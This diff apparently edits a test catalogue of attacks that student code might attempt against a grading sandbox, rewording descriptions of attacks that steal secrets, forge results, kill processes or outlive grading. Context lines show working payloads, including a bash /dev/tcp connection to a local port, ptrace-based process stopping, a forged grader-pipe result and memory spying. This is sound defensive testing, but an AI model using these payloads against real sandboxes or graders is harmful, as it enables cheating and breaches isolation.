@@ -1,17 +1,17 @@
-"""The attacks: what an answer's cell may hold that is no answer.
+"""The catalogue of attacks: code that an answer's cell may contain instead of an answer.
 
-Each is after one of these, and has succeeded if the world shows it:
+Each has one of these effects, and has succeeded if the effect is found in the environment afterwards:
 
-    steals     the secret word is among what it reports
-    writes     the results of others have changed
-    ends       a process outside is dead or stopped
-    calls      a server outside heard it
+    steals     it reports the secret word
+    writes     the results of other students have changed
+    ends       a process outside has ended or is stopped
+    calls      a server outside received a message
     leaves     another student's trial, run after it, finds what it left
-    outlives   something of it still runs when grading is over
-    forges     the grader takes down a result for somebody else
-    spies      the secret word of another student's job, which waits for its turn, is among what it reports
-    hoards     its processes together hold more memory than one of them may
-    stops      the student beside it gets no result, or its own is none that can be written down
+    outlives   one of its processes still runs after grading
+    forges     the grader accepts a result for another student
+    spies      it reports the secret word of another student's waiting job
+    hoards     its processes together use more memory than one of them may
+    stops      another student gets no result, or its own result cannot be stored
 """
 
 from __future__ import annotations
@@ -24,14 +24,14 @@ class Attack:
     """An attack.
 
     Args:
-        name: what it does, in words for a table.
-        after: steals, writes, ends, calls, leaves, outlives, forges, spies, hoards or stops.
-        source: the cell.
-        accomplice: the cell of the other student, who finds what was left.
+        name: a description for the table.
+        effect: steals, writes, ends, calls, leaves, outlives, forges, spies, hoards or stops.
+        source: the source of the cell.
+        accomplice: the source of the other student's cell, which finds what was left.
     """
 
     name: str
-    after: str
+    effect: str
     source: str
     accomplice: str = ""
 
@@ -168,7 +168,7 @@ WRITES = (
         "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', f'open({LOG!r}, \"a\").write(\"forged\")'])",
     ),
     Attack(
-        "writes after it has lost its rights to a helper in C (raw system call)",
+        "writes by a raw system call from C",
         "writes",
         _LIBC + "file = libc.open(LOG.encode(), 1 | 1024)\nlibc.write(file, b'forged', 6)",
     ),
@@ -195,7 +195,7 @@ ENDS = (
         + "libc.ptrace(16, VICTIM, None, None)\nos.waitpid(VICTIM, 0x40000000)\nlibc.ptrace(8, VICTIM, None, None)",
     ),
     Attack(
-        "lowers another process's limits until it cannot go on (prlimit)",
+        "lowers another process's limits until it cannot continue (prlimit)",
         "ends",
         "import os, resource\nresource.prlimit(VICTIM, resource.RLIMIT_CPU, (0, 0))\nos.kill(VICTIM, 24)",
     ),
@@ -223,12 +223,12 @@ CALLS = (
         "import socket\none = socket.socket(socket.AF_UNIX)\none.connect(ABSTRACT)\none.sendall(b'hello')",
     ),
     Attack(
-        "asks a program of the system to call (bash's /dev/tcp)",
+        "uses a system program to connect (bash's /dev/tcp)",
         "calls",
         "import subprocess\nsubprocess.run(['bash', '-c', f'echo hello > /dev/tcp/127.0.0.1/{PORT}'], timeout=5)",
     ),
     Attack(
-        "asks for http",
+        "sends an HTTP request",
         "calls",
         "import urllib.request\nurllib.request.urlopen(f'http://127.0.0.1:{PORT}/hello', timeout=1)",
     ),
@@ -303,7 +303,7 @@ LEAVES = (
         "size = libc.syscall(250, 11, key, memory, 16)\nif size > 0: report('left', memory.raw[:size].decode())",
     ),
     Attack(
-        "rewrites a module of the course for whoever comes next",
+        "rewrites a module of the course for later trials",
         "leaves",
         "import kuiper_edu\nopen(kuiper_edu.__file__, 'a').write('# left')",
         "import kuiper_edu\nif open(kuiper_edu.__file__).read().endswith('# left'): report('left', 'left')",
@@ -312,19 +312,19 @@ LEAVES = (
 
 OUTLIVES = (
     Attack(
-        "goes on in the background (fork, setsid)",
+        "keeps running in the background (fork, setsid)",
         "outlives",
         "import os, time\nif not os.fork():\n    os.setsid()\n    " + _LATER + "time.sleep(0.5)",
     ),
     Attack(
-        "goes on as a daemon (fork, setsid, fork)",
+        "keeps running as a daemon (fork, setsid, fork)",
         "outlives",
         "import os, time\nif not os.fork():\n    os.setsid()\n    if os.fork(): os._exit(0)\n    "
         + _LATER
         + "os.wait()\ntime.sleep(0.2)",
     ),
     Attack(
-        "goes on as a program of its own (nohup)",
+        "keeps running as a separate program (nohup)",
         "outlives",
         "import subprocess\nargs = ['nohup', 'sh', '-c', f'sleep 1.5; echo forged >> {LOG}']\n"
         "subprocess.Popen(args, start_new_session=True)",
@@ -333,7 +333,7 @@ OUTLIVES = (
 
 FORGES = (
     Attack(
-        "writes a result for somebody else into the grader's pipe",
+        "writes a result for another student into the grader's pipe",
         "forges",
         "import glob, json, os\n"
         "line = json.dumps({'id': 'bob', 'status': 'ran', 'values': [['forged', 1]], 'error': None,\n"
@@ -354,7 +354,7 @@ FORGES = (
 
 SPIES = (
     Attack(
-        "reads the jobs of others in the memory that it was forked with",
+        "reads other students' jobs in the memory inherited from the fork",
         "spies",
         "import gc\nfor one in gc.get_objects():\n"
         "    if isinstance(one, dict) and 'cells' in one: report('it', repr(one)[:2000])",
@@ -400,12 +400,12 @@ STOPS = (
         _EVERY_PIPE + _OUTCOME + "said['values'] = [['deep', json.loads('[' * 490 + ']' * 490)]]\n" + _SAY_IT,
     ),
     Attack(
-        "writes a result whose texts are halves of characters",
+        "writes a result whose texts are lone surrogates",
         "stops",
         _EVERY_PIPE + _OUTCOME + "said |= {'values': [['\\ud800', '\\ud800']], 'printed': '\\ud800'}\n" + _SAY_IT,
     ),
     Attack(
-        "raises an error whose name and text hold half a character and a terminal's commands",
+        "raises an error whose name and text contain a lone surrogate and terminal commands",
         "stops",
         "raise type('\\udfff', (ValueError,), {})('\\ud800 \\x1b[2J \\u202e')",
     ),
